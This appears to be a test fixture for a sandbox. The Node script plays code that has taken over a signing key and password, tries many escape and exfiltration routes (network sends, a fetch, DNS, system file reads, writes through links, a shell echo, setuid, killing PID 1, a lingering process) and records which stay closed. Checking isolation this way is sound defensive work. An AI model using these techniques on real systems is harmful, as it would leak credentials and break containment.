// What code that took over beside the key would do, put into that world by sealed-attacker.test.ts, with Node.js to run it: it takes
// every way out there is, and writes which ones were open into the one file that is carried out.
import { spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import * as fs from 'node:fs';
import { connect, createServer } from 'node:net';
import { networkInterfaces } from 'node:os';

const LOOT = `${process.env.APPLICATION_P12_BASE64}${process.env.APPLICATION_P12_PASSWORD}`;
const plan = JSON.parse(fs.readFileSync('/plan.json', 'utf8'));
const outcomes = {};

async function attempt(name, work) {
  try {
    outcomes[name] = `open: ${(await work()) ?? 'done'}`;
  } catch (error) {
    outcomes[name] = `closed: ${error.code ?? error.message}`;
  }
}

const send = (target) =>
  new Promise((done, reject) => {
    const socket = connect(target, () => socket.end(LOOT, done));
    socket.on('error', reject);
  });
const sendDatagram = (port) =>
  new Promise((done, reject) => {
    const socket = createSocket('udp4');
    socket.send(LOOT, port, '127.0.0.1', (error) => (error ? reject(error) : done()));
  });
const start = (program, argv = []) => {
  const { error, status } = spawnSync(program, argv, { timeout: 5_000 });
  if (error) throw error;
  if (status !== 0) throw new Error(`ended with ${status}`);
};
const dangling = (path) => {
  fs.symlinkSync(plan.folder, '/out/way');
  fs.writeFileSync(path, LOOT);
};

const WAYS_TO_LEAVE = {
  nothing: () => undefined,
  'a folder': (path) => fs.mkdirSync(path),
  'a link to a file of the machine': (path) => fs.symlinkSync(plan.secret, path),
  'a link to a file beside it': (path) => {
    fs.writeFileSync('/out/other', LOOT);
    fs.symlinkSync('other', path);
  },
  'a link to nothing': (path) => fs.symlinkSync('none', path),
  'a socket': (path) => new Promise((done) => createServer().listen(path, done)),
  'one byte too many': (path) => fs.writeFileSync(path, Buffer.alloc(plan.largest + 1, 'x')),
  'as much as may be': (path) => fs.writeFileSync(path, JSON.stringify('x'.repeat(plan.largest - 2))),
};
if (plan.leaves) {
  await WAYS_TO_LEAVE[plan.leaves]('/out/signatures');
  process.exit(0);
}

process.stdout.write(LOOT);
process.stderr.write(LOOT);
await attempt('tcp', () => send({ port: plan.port, host: '127.0.0.1' }));
await attempt('tcp-outside', () => send({ port: 53, host: '192.0.2.1' }));
await attempt('udp', () => sendDatagram(plan.port));
await attempt('unix-socket', () => send({ path: plan.socket }));
await attempt('abstract-socket', () => send({ path: plan.abstract }));
await attempt('fetch', async () => (await fetch(`http://127.0.0.1:${plan.port}/${LOOT.length}`)).status);
await attempt('dns', () => lookup('example.com'));
// Node has files of its own under these numbers.
for (let number = 3; number < 10; number++)
  await attempt(`descriptor ${number}`, () => {
    const { dev, ino } = fs.fstatSync(number);
    if (dev !== plan.inherited.dev || ino !== plan.inherited.ino) throw new Error('another file');
  });
for (const folder of [
  '/',
  '/lib',
  '/bin',
  '/dev',
  '/tmp',
  '/dev/shm',
  '/home',
  '/root',
  '/var/tmp',
  '/run',
  plan.folder,
]) {
  await attempt(`write ${folder === plan.folder ? 'the caller’s folder' : folder}`, () =>
    fs.writeFileSync(`${folder}/loot`, LOOT),
  );
}
await attempt('write what runs there', () => fs.writeFileSync('/inside.sh', LOOT));
await attempt('write through a link', () => dangling('/out/way/loot'));
await attempt('write above', () => fs.writeFileSync('/out/../loot', LOOT));
for (const path of ['/etc/passwd', '/proc/self/environ', '/proc/1/environ', '/sys/kernel', '/dev/kmsg']) {
  await attempt(`read ${path}`, () => fs.readFileSync(path).length);
}
await attempt('a program of the machine', () => start('/usr/bin/env', ['true']));
await attempt('write with the shell', () => start('/bin/sh', ['-c', `echo "${LOOT}" >'${plan.folder}/loot'`]));
await attempt('connect with openssl', () => start('/bin/openssl', ['s_client', '-connect', `127.0.0.1:${plan.port}`]));
await attempt('write with openssl', () => start('/bin/openssl', ['rand', '-out', `${plan.folder}/loot`, '9']));
await attempt('made program', () => {
  fs.writeFileSync('/out/program', '#!/bin/node\n', { mode: 0o755 });
  return start('/out/program');
});
await attempt('native code', () => {
  fs.copyFileSync('/bin/openssl', '/out/native.node');
  process.dlopen({ exports: {} }, '/out/native.node');
});
await attempt('become root', () => process.setuid(0));
await attempt('signal the first process', () => process.kill(1, 'SIGTERM'));
await attempt('change root', () => process.chdir('/proc/1/root'));
// One that stays behind and would go on when the step is over.
spawn(process.execPath, ['-e', `setInterval(() => {}, 1000) // ${plan.marker}`], { detached: true }).unref();

fs.writeFileSync(
  '/out/signatures',
  `${JSON.stringify({
    outcomes,
    env: Object.keys(process.env).sort(),
    argvHoldsLoot: process.argv.some((word) => word.includes(process.env.APPLICATION_P12_PASSWORD)),
    root: fs.readdirSync('/').sort(),
    interfaces: Object.keys(networkInterfaces()),
    user: process.getuid(),
    groups: process.getgroups(),
    loot: LOOT,
  })}\n`,
);
if (plan.end === 'abort') process.abort();
process.exit(plan.end);
